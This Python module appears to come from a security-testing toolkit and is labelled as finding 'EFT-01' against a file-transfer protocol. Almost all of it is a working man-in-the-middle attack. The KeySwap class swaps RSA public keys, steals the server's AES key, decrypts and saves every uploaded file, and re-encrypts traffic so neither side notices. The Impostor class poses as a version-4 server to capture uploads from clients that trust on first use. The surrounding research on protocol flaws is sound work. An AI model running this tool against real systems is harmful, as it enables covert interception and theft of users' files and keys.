"""Man in the middle on the key exchange: the client cannot tell us from the server.

Run it where the victim's client connects (``--listen``), forwarding to ``--target``:

1. 826: the client's public key is swapped for ours before it reaches the server, so the
   server wraps its AES key (1602) for us; we unwrap it.
2. 1602: we hand the client an AES key of our own, wrapped with its real public key
   (RSA public keys are public: 826 carries it in the clear).
3. 828: every file arrives encrypted under our key: we decrypt it (the plaintext is
   the loot), encrypt it again under the server's key and forward it. The server's
   1603 CRC then matches the client's, the client confirms with 900 and both sides
   report success. Nothing in version 3 lets either side notice.

The server now stores our public key for this client, so later reconnects of the
client only work through us: the interception is persistent.

``--protocol 4``: the server proves its static key in message 2, so we play a whole
version-4 server with a static key of our own (our own server's state machine over
an in-memory registry) and read whatever the client uploads to us. A client that has
the real server's fingerprint pinned (an earlier contact through us, relayed with
``--relay-first N``, or a configured ``--server-fingerprint``) stops after our message
2 with exit 7, before message 3: we learn no name, no key and no file. A client with
no pin yet (its first contact, trust on first use) pins our key and sends us
everything: that is the success case of this mode.
"""

from __future__ import annotations

import argparse
import time
from collections.abc import Sequence
from pathlib import Path

from Crypto.PublicKey import RSA

from eft_protocol import crypto, errors
from eft_protocol.cksum import cksum
from eft_protocol.codes import RequestCode, ResponseCode
from eft_protocol.noise import KeyPair
from eft_protocol.notices import ClientReconnected, ClientRegistered
from eft_protocol.registry import MemoryRegistry
from eft_protocol.v4 import server as v4server
from eft_protocol.v4.file_digest import file_digest
from eft_protocol.v4.handshake import fingerprint

from .common import Out, add_listen_argument, add_target_argument, keep_plaintext, preview
from .framing import Frame, request, resliced, response
from .proxy import Interceptor, MitmConnection, MitmProxy
from .recording import Attempt, Recorder
from .v4 import add_protocol_argument

FINDING = "EFT-01"
SUMMARY = "man in the middle swaps RSA keys, hands the client its own AES key, reads files"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_target_argument(parser)
    add_listen_argument(parser)
    parser.add_argument("--out", help="directory to save the recovered files in")
    parser.add_argument("--record", help="also record the session to this file")
    add_protocol_argument(parser)
    parser.add_argument(
        "--relay-first",
        type=int,
        default=0,
        help="version 4: relay this many connections unchanged before playing the server "
        "(the client's earlier, clean contacts) (0)",
    )
    parser.add_argument(
        "--connections",
        type=int,
        default=1,
        help="version 4: stop once this many clients we played the server for have gone (1)",
    )


class KeySwap(Interceptor):
    def __init__(self, out: Out, out_dir: Path | None) -> None:
        self.out, self.out_dir = out, out_dir
        self.key = crypto.generate_rsa_key()
        self.der = crypto.public_key_der(self.key)
        self.client_keys: dict[bytes, RSA.RsaKey] = {}  # client id -> its real public key
        self.recovered: list[dict[str, object]] = []

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        scratch = conn.scratch
        if frame.code == RequestCode.SEND_PUBLIC_KEY and len(frame.payload) == 415:
            assert frame.client_id is not None
            real = crypto.load_public_key(frame.payload[255:])
            scratch["client_pub"] = self.client_keys[frame.client_id] = real
            self.out.step("826: swapped the client's public key for ours")
            payload = frame.payload[:255] + self.der
            await conn.to_server(request(frame.client_id, frame.code, payload))
            return
        if frame.code == RequestCode.RECONNECT and frame.client_id in self.client_keys:
            scratch["client_pub"] = self.client_keys[frame.client_id]
        if frame.is_packet and "server_key" in scratch:
            attempt = scratch.get("attempt")
            if attempt is None:
                packet, _ = frame.packet()
                attempt = Attempt(packet.file_name, packet.orig_size, packet.content_size)
                scratch["attempt"] = attempt
            attempt.packets.append(frame)
            if attempt.complete:
                scratch["attempt"] = None
                await self._relay(conn, attempt)
            return
        await conn.to_server(frame.raw)

    async def _relay(self, conn: MitmConnection, attempt: Attempt) -> None:
        scratch = conn.scratch
        try:
            plaintext = crypto.decrypt_file_bytes(scratch["client_key"], attempt.ciphertext)
        except errors.BadPadding:
            self.out.step(f"{attempt.file_name}: not encrypted under our key; forwarded as is")
            await conn.to_server(*(f.raw for f in attempt.packets))
            return
        self.out.step(
            f"828: decrypted {attempt.file_name!r} ({len(plaintext)} bytes)",
            preview=preview(plaintext, 80),
        )
        scratch["pending"] = (attempt.file_name, plaintext)
        again = crypto.encrypt_file_bytes(scratch["server_key"], plaintext)
        await conn.to_server(*resliced(attempt.packets, again))

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        scratch = conn.scratch
        keyed = (ResponseCode.PUBLIC_KEY_ACCEPTED, ResponseCode.RECONNECTED)
        if frame.code in keyed and scratch.get("client_pub") is not None:
            try:
                server_key = crypto.unwrap_aes_key(self.key, frame.payload[16:])
            except errors.ProtocolError:
                self.out.step(f"{frame.code}: wrapped for the client's own key; passing through")
                await conn.to_client(frame.raw)
                return
            own = crypto.new_aes_key()
            wrapped = crypto.wrap_aes_key(scratch["client_pub"], own)
            scratch.update(server_key=server_key, client_key=own)
            self.out.step(
                f"{frame.code}: unwrapped the server's AES key; gave the client our own",
                server_key=server_key,
                client_key=own,
            )
            await conn.to_client(response(frame.code, frame.payload[:16] + wrapped))
            return
        if frame.code == ResponseCode.FILE_RECEIVED and scratch.get("pending"):
            name, plaintext = scratch.pop("pending")
            server_crc = frame.file_received().cksum
            self._keep(name, plaintext, server_crc)
        await conn.to_client(frame.raw)

    def _keep(self, name: str, plaintext: bytes, server_crc: int) -> None:
        matches = cksum(plaintext) == server_crc
        entry: dict[str, object] = {
            "file_name": name,
            "size": len(plaintext),
            "cksum_matches_server": matches,
            "plaintext": preview(plaintext),
        }
        if self.out_dir is not None:
            self.out_dir.mkdir(parents=True, exist_ok=True)
            path = self.out_dir / Path(name).name
            path.write_bytes(plaintext)
            entry["saved"] = str(path)
        self.recovered.append(entry)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(any(e["cksum_matches_server"] for e in self.recovered))


class Impostor(Interceptor):
    """Version 4: play the server toward the client with a static key of our own."""

    def __init__(self, out: Out, out_dir: Path | None, relay_first: int, wanted: int) -> None:
        self.out, self.out_dir, self.relay_first = out, out_dir, relay_first
        self.wanted, self.gone = wanted, 0
        self.key = KeyPair.generate()
        self.fingerprint = fingerprint(self.key.public)
        self.connections = 0
        self.relayed = 0
        self.impersonated = 0
        self.message_3 = 0  # clients that went on after our message 2
        self.learned: list[dict[str, object]] = []  # names and client ids they revealed
        self.recovered: list[dict[str, object]] = []
        self._registry = MemoryRegistry()

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        scratch = conn.scratch
        if "session" not in scratch and not scratch.get("relay"):
            self.connections += 1
            if self.connections <= self.relay_first:
                scratch["relay"] = True
                self.relayed += 1
                self.out.step(f"connection {conn.number}: relayed unchanged (a clean contact)")
            else:
                self.impersonated += 1
                scratch["session"] = v4server.ServerSessionV4(self.key, self._registry)
                self.out.step(
                    f"connection {conn.number}: answering as the server with our own key",
                    fingerprint=self.fingerprint,
                )
        if scratch.get("relay"):
            await conn.to_server(frame.raw)
            return
        session: v4server.ServerSessionV4 = scratch["session"]
        if session.state is v4server.ServerStateV4.AWAITING_INTENT:
            self.message_3 += 1
        header = frame.raw[:23]
        try:
            session.payload_size(header)
        except Exception as exc:  # an impostor says nothing either
            self.out.step(f"client frame refused: {exc}")
            conn.close_client()
            return
        await self._apply(conn, session, session.receive(header, frame.payload, time.time()))

    async def _apply(
        self, conn: MitmConnection, session: v4server.ServerSessionV4, effects: Sequence[object]
    ) -> None:
        scratch = conn.scratch
        for effect in effects:
            if isinstance(effect, v4server.SendFrame):
                await conn.to_client(effect.frame)
            elif isinstance(effect, v4server.Close):
                conn.close_client()
            elif isinstance(effect, v4server.OpenUpload):
                scratch["upload"] = bytearray()
                await self._apply(conn, session, session.upload_ready(0))
            elif isinstance(effect, v4server.WriteChunk):
                scratch["upload"] += effect.data
            elif isinstance(effect, v4server.FinishUpload):
                digest = file_digest(scratch["upload"]).digest()
                await self._apply(conn, session, session.upload_complete(digest, time.time()))
            elif isinstance(effect, v4server.CommitUpload | v4server.StageUpload):
                self._keep(effect.name, bytes(scratch.pop("upload")))  # 900, or a 903
            elif isinstance(effect, ClientRegistered | ClientReconnected):
                learned = {"name": session.name, "client_id": effect.fields.get("client_id")}
                self.learned.append(learned)
                self.out.step(f"message 3 revealed the client: {effect.event}", **learned)

    def _keep(self, name: str, plaintext: bytes) -> None:
        self.out.step(f"the client uploaded {name!r} to us", size=len(plaintext))
        self.recovered.append(keep_plaintext(self.out_dir, name, plaintext))

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if conn.scratch.get("relay"):
            await conn.to_client(frame.raw)

    async def server_closed(self, conn: MitmConnection) -> None:
        if conn.scratch.get("relay"):
            conn.close_client()

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        if "session" in conn.scratch:
            self.gone += 1
            if self.gone >= self.wanted:
                self.proxy.finish(bool(self.recovered))


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    out_dir = Path(args.out) if args.out else None
    impostor = Impostor(out, out_dir, args.relay_first, args.connections)
    recorder = Recorder(Path(args.record), args.target) if args.record else None
    proxy = MitmProxy(args.target, impostor, out, recorder)
    await proxy.run(args.listen, args.timeout)
    fields = {
        "fingerprint": impostor.fingerprint,
        "relayed": impostor.relayed,
        "impersonated": impostor.impersonated,
        "message_3": impostor.message_3,
        "learned": impostor.learned,
        "files": impostor.recovered,
    }
    if impostor.recovered:
        return out.result(
            True,
            f"the client trusted our key {impostor.fingerprint} and uploaded "
            f"{len(impostor.recovered)} file(s) to us",
            **fields,
        )
    said = "sent message 3" if impostor.message_3 else "never sent message 3"
    return out.result(
        False,
        f"the client refused our key {impostor.fingerprint} and {said}: no name, no key, no file",
        **fields,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await run_v4(args, out)
    interceptor = KeySwap(out, Path(args.out) if args.out else None)
    recorder = Recorder(Path(args.record), args.target) if args.record else None
    proxy = MitmProxy(args.target, interceptor, out, recorder)
    success = await proxy.run(args.listen, args.timeout)
    files = interceptor.recovered
    if success:
        return out.result(
            True, f"read {len(files)} file(s) in plaintext; the server stored them", files=files
        )
    return out.result(False, "no file was recovered", files=files)
